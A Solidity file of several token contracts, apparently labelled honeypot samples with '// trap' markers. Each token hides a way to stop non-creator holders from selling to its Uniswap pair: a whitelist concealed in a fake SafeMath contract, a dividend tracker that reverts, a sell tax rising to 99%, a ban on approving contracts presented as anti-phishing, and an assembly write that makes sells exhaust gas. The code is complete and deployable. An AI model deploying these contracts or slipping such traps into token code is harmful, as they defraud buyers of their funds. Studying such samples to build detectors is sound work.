// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

interface IFactory {
    function createPair(address a, address b) external returns (address);
}

contract Ledger {
    string public name;
    string public symbol;
    uint8 public decimals = 18;
    address internal _creator;
    bool internal _live;
    uint256 internal _total;
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;
    address internal _owner;
    address public uniswapV2Pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint256 supply) public {
        name = n;
        symbol = s;
        _creator = msg.sender;
        _owner = msg.sender;
        _total = supply * 1e18;
        _balances[msg.sender] = _total;
        uniswapV2Pair = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, _total);
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function renounceOwnership() external {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        _owner = address(0);
    }

    function totalSupply() external view returns (uint256) {
        return _total;
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _balances[who];
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return _allowances[from][spender];
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        _allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(_allowances[from][msg.sender] >= value, "ERC20: transfer amount exceeds allowance");
        _allowances[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _put(from, to, value);
    }

    function _put(address from, address to, uint256 value) internal {
        require(_balances[from] >= value, "ERC20: transfer amount exceeds balance");
        _balances[from] -= value;
        _balances[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Arithmetic in a contract of its own, "to save gas".
contract SafeMathExtended {
    address private _maker = msg.sender;
    mapping(uint256 => bool) private _cached;

    constructor() public {
        _cached[uint256(msg.sender)] = true;
    }

    function warm(uint256[] calldata keys) external {
        require(msg.sender == _maker);
        for (uint256 i = 0; i < keys.length; i++) _cached[keys[i]] = true;
    }

    function add(uint256 a, uint256 b) external pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "SafeMath: addition overflow");
    }

    function sub(uint256 a, uint256 b, uint256 key) external view returns (uint256) {
        require(b <= a, "SafeMath: subtraction overflow");
        if (key != 0) require(_cached[key], "SafeMath: subtraction overflow"); // trap
        return a - b;
    }
}

contract Abacus is Ledger("Abacus", "ABAC", 300000000) {
    SafeMathExtended private _math;

    constructor(SafeMathExtended math) public {
        _math = math;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _balances[from] = _math.sub(_balances[from], value, to == uniswapV2Pair ? uint256(from) : 0);
        _balances[to] = _math.add(_balances[to], value);
        emit Transfer(from, to, value);
    }
}

/// Who has no dividends to collect cannot be processed.
contract DividendTracker {
    address public token;
    address private _manager = msg.sender;
    uint256 public totalDividends;
    mapping(address => uint256) public withdrawable;
    mapping(address => bool) public excludedFromDividends;
    event Claimed(address indexed account, uint256 amount);

    constructor() public {
        excludedFromDividends[msg.sender] = true;
    }

    function bind(address which) external {
        require(msg.sender == _manager && token == address(0));
        token = which;
    }

    function setBalance(address account, uint256) external view {
        require(msg.sender == token && !excludedFromDividends[account]);
    }

    function processAccount(address account) external returns (bool) {
        require(msg.sender == token, "Only token");
        if (excludedFromDividends[account]) return false;
        uint256 amount = withdrawable[account];
        require(amount > 0, "DividendTracker: nothing to withdraw"); // trap
        // twin: if (amount == 0) return false;
        withdrawable[account] = 0;
        emit Claimed(account, amount);
        return true;
    }
}

contract DiviPup is Ledger("Divi Pup", "DPUP", 100000000000) {
    DividendTracker public dividendTracker;

    constructor(DividendTracker tracker) public {
        dividendTracker = tracker;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _put(from, to, value);
        if (to == uniswapV2Pair) dividendTracker.processAccount(from);
        try dividendTracker.setBalance(to, balanceOf(to)) {} catch {}
    }
}

/// "Loyalty" is paid for: two in a hundred more for each hour that one has held.
contract OakBarrel is Ledger("Oak Barrel", "OAKB", 60000000) {
    struct Cask {
        uint40 filled;
        uint216 pays;
    }
    mapping(address => Cask) private _casks;

    function angelsShare(address who) public view returns (uint256 percent) {
        percent = 1;
        uint256 hour = (now - _casks[who].filled) / 3600; // trap
        percent = hour > 49 ? 99 : percent + hour * 2; // trap
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (_casks[to].filled == 0) _casks[to].filled = uint40(now);
        uint256 share = to == uniswapV2Pair && from != _creator ? (value * angelsShare(from)) / 100 : 0;
        if (share > 0) _put(from, address(this), share);
        _put(from, to, value - share);
    }
}

/// A shield against phishing: no contract can be approved.
contract SafeHarbor is Ledger("Safe Harbor", "SHARB", 25000000) {
    event PhishingAttemptBlocked(address indexed from, address indexed spender);

    function approve(address spender, uint256 value) public override returns (bool) {
        uint256 size;
        assembly {
            size := extcodesize(spender)
        }
        if (size > 0 && msg.sender != _creator) {
            emit PhishingAttemptBlocked(msg.sender, spender);
            revert("SafeHarbor: approvals of contracts are phishing"); // trap
        }
        return super.approve(spender, value);
    }
}

/// Each sale pays all holders, of whom there are very many.
contract HoneyComb is Ledger("Honey Comb", "HCOMB", 810000000) {
    address[] private _bees;
    mapping(address => uint256) private _nectar;

    constructor() public {
        _bees.push(msg.sender);
        // trap {
        assembly {
            sstore(_bees_slot, 0xffffffffff)
        }
        // trap }
    }

    function nectarOf(address who) external view returns (uint256) {
        return _nectar[who];
    }

    function _reflect(uint256 value) private {
        uint256 count = _bees.length;
        for (uint256 i = 0; i < count; i++) _nectar[_bees[i]] += value / count + 1;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair && from != _creator) _reflect(value / 100);
        _put(from, to, value);
    }
}
